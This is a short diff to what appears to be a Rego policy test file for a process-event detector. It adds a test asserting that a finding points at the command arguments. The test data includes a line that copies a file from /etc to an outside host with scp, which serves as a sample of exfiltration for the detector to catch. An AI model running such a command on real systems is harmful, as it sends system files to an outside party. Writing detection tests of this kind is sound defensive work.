@@ -38,3 +38,7 @@ test_leaves_what_is_ordinary if {
 	found(testing.on_node(command)) == set()
 	found_with(command, {"allowedImages": ["docker.io/library/web"]}) == set()
 }
+
+test_points_at_the_arguments if {
+	testing.paths(found(testing.command("scp /etc/x x@203.0.113.5:/"))) == {"/event/process/args"}
+}
